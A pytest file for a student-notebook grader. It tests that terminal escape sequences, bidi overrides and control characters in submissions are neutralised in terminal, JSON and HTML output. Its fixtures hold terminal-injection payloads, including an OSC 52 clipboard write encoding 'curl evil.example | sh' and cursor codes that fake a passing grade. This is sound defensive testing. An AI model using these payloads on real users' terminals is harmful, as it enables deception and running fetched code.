"""Student text reaches no terminal raw, and no HTML report with its bidi overrides (issue #12, part 6).

One stored result carries the attack everywhere a notebook can put text: the
exception name and value (OSC 0 retitling the terminal "grader: 100/100 all
passed", OSC 52 writing the clipboard, CSI moving the cursor up to redraw a
failed row as passed), the messages, hint and diagnosis, the ids, the file
name, a skipped shell command. Every way the grader prints it: the `check`
table (plain and coloured), `grader report`, `grader data check`, `grade`'s
problem list and progress line, and the HTML report and class summary.
"""
from __future__ import annotations

import copy
import io
import json
import re
from pathlib import Path

import pytest

from grader import cli
from grader.batch.discover import Problem
from grader.batch.progress import Progress
from grader.batch.run import GradeSummary, print_summary
from grader.report.html import render_submission_html
from grader.report.results import dumps, validate_result
from grader.report.summary import summarise
from grader.report.summary_html import summary_html
from grader.report.terminal import print_report
from grader.safe_text import BIDI_CONTROLS

FIXTURES = Path(__file__).parent / "fixtures" / "results"
TITLE = "\x1b]0;grader: 100/100 all passed\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
REDRAW = "\x1b[1A\x1b[2K\r ✓ lstm.forward  passed 12/12\x1b[1B"
BIDI = "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c"
EIGHT_BIT = "\x9b1A\x9d0;pwn\x9c\x85"
TITLE_IN_A_NAME = "\x1b]0;pwned\x07"  # a file name cannot hold the "/" of "100/100"
ATTACK = TITLE + CLIPBOARD + REDRAW + BIDI + EIGHT_BIT + "\x00\x7f\ud800"
# What the terminal obeys, or the eye misreads: none of it may come out.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff"
                       + "".join(chr(c) for c in BIDI_CONTROLS) + "]")
# The grader's own colours, the only escape codes a coloured table may contain.
OUR_COLOURS = re.compile(r"\x1b\[(?:0|1|31|32|33|90)m")


def hostile_result() -> dict:
    """A stored failing result with the attack in every student-controlled string."""
    result = json.loads((FIXTURES / "hostile_cell_html_script.json").read_text(encoding="utf-8"))
    result["submission_id"] = "s1" + TITLE + BIDI
    result["file"] = result["notebook"] = "lab" + CLIPBOARD + BIDI + ".ipynb"
    result["error"] = ATTACK
    result["outcome"] = "crashed"  # the ungraded line quotes `error` too
    result["shell_escapes"] = [{"cell": 3, "command": "!curl x" + ATTACK}]
    result["device"] = "cpu" + REDRAW
    for check in result["checks"]:
        check["message"] = check["diagnosis"] = check["hint"] = "msg " + ATTACK
        if check["status"] == "passed":
            check["status"], check["score"] = "failed", 0.0
        i18n = check.setdefault("i18n", {})
        i18n["message"] = {"key": "pipeline.runs_failed", "params": {"cell": 4, "error": ATTACK, "count": 1}}
        i18n["diagnosis"] = None
        i18n["hint"] = {"zh": "提示 " + ATTACK, "en": "hint " + ATTACK}
    for cell in result["cells"]:
        if cell["status"] != "ok":
            cell.update(error_name=TITLE + "X", error_value=ATTACK, traceback=ATTACK + "\n" + ATTACK,
                        source="print(" + ATTACK + ")", message=ATTACK)
    result["checks"][0]["id"] = "notebook.runs" + TITLE  # ids come from the rubric, but a stored file is input
    return validate_result(result, "hostile", "en")


def assert_nothing_obeyed(text: str, *, colours: bool = False) -> None:
    if colours:
        text = OUR_COLOURS.sub("", text)
    found = sorted({f"U+{ord(m.group()):04X}" for m in FORBIDDEN.finditer(text)})
    assert not found, found
    assert "\x1b" not in text and "\x07" not in text


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_check_table_shows_the_attack_and_obeys_none_of_it(lang, monkeypatch):
    monkeypatch.delenv("NO_COLOR", raising=False)
    for out, colours in ((io.StringIO(), False), (_Tty(), True)):
        print_report(hostile_result(), lang, out)
        text = out.getvalue()
        assert_nothing_obeyed(text, colours=colours)
        assert "␛]0;grader: 100/100 all passed␇" in text   # shown, so the TA sees what was tried
        assert "␛]52;c;" in text and "␛[1A␛[2K␍" in text and "[U+202E]gnp.exe" in text
        if colours:
            assert OUR_COLOURS.search(out.getvalue())        # our own colours still work
        # one row per check: no line break smuggled into a row
        lines = OUR_COLOURS.sub("", text).splitlines()
        rows = [line for line in lines if "/" in line and line.lstrip()[:1] in "✓✗!-"]
        assert len(rows) == len(hostile_result()["checks"])


def test_check_json_stays_valid_and_lossless():
    result = hostile_result()
    text = dumps(result)
    assert_nothing_obeyed(text)
    assert json.loads(text) == result


def test_html_report_has_no_raw_bidi_override():
    page = render_submission_html(hostile_result(), "en")
    assert not any(chr(c) in page for c in BIDI_CONTROLS)
    assert "[U+202E]gnp.exe" in page
    page.encode("utf-8")  # the lone surrogate is marked too: the page can be written
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def test_class_summary_has_no_raw_bidi_override():
    results = [hostile_result(), json.loads((FIXTURES / "passes_all_reference.json").read_text(encoding="utf-8"))]
    page = summary_html(summarise(results), "en", report_hrefs=["reports/a.html", None])
    assert not any(chr(c) in page for c in BIDI_CONTROLS)
    assert "[U+202E]gnp.exe" in page


def test_grader_report_prints_nothing_raw(tmp_path, capsys):
    folder = tmp_path / ("results" + TITLE_IN_A_NAME)
    folder.mkdir()
    # Without the lone surrogate: grades.csv cannot encode one yet (the exports' business, not the terminal's).
    (folder / "hostile.json").write_text(dumps(hostile_result()).replace("\\ud800", ""), encoding="utf-8")
    assert cli.main(["--lang", "en", "report", str(folder), "-o", str(tmp_path / ("out" + BIDI))]) == 0
    out = capsys.readouterr()
    assert_nothing_obeyed(out.out + out.err)
    for page in (tmp_path / ("out" + BIDI)).rglob("*.html"):
        assert not any(chr(c) in page.read_text(encoding="utf-8") for c in BIDI_CONTROLS), page
    # a malformed result file: the error quotes its name
    (folder / ("bad" + CLIPBOARD + ".json")).write_text("{", encoding="utf-8")
    assert cli.main(["--lang", "en", "report", str(folder), "-o", str(tmp_path / "out2")]) == 2
    out = capsys.readouterr()
    assert "␛]52;c;" in out.err
    assert_nothing_obeyed(out.out + out.err)


def test_grader_data_check_prints_nothing_raw(tmp_path, capsys):
    root = tmp_path / "data"
    for split in ("train", "test"):
        (root / split).mkdir(parents=True)
        (root / f"{split}.csv").write_text(f"filename,class\nx{TITLE_IN_A_NAME}.wav,cat{REDRAW}{BIDI}\n",
                                           encoding="utf-8")
    assert cli.main(["--lang", "en", "data", "check", str(root)]) == 2
    out = capsys.readouterr()
    assert "␛]0;pwned␇" in out.err and "[U+202E]gnp.exe" in out.err
    assert_nothing_obeyed(out.out + out.err)


def test_grade_summary_problem_list_prints_nothing_raw():
    problem = Problem("not_a_notebook", "subs/x" + TITLE + ".ipynb", "x" + BIDI)
    summary = GradeSummary(total=1, graded_now=0, failed_now=1, skipped_unchanged=0, outcomes={"bad_input": 1},
                           mean_score=None, max_score=100.0, problems=[problem] * 3, out_dir=Path("out" + REDRAW))
    stream = io.StringIO()
    print_summary(summary, "en", stream)
    assert "␛]0;grader: 100/100 all passed␇" in stream.getvalue()
    assert_nothing_obeyed(stream.getvalue())


def test_progress_line_still_redraws_through_a_safe_stream():
    from grader.safe_text import SafeStream

    raw = _Tty()
    progress = Progress(2, "en", stream=SafeStream(raw), is_tty=True)
    progress.start()
    progress.advance(failed=True)
    text = raw.getvalue()
    assert text.startswith("\r") and text.count("\x1b[K") == 2  # the grader's own codes pass
    assert_nothing_obeyed(text.replace("\r", "").replace("\x1b[K", ""))


def test_a_fresh_copy_is_not_needed_twice():
    """Rendering never mutates the stored result (the batch renders one result several ways)."""
    result = hostile_result()
    before = copy.deepcopy(result)
    print_report(result, "en", io.StringIO())
    render_submission_html(result, "en")
    assert result == before
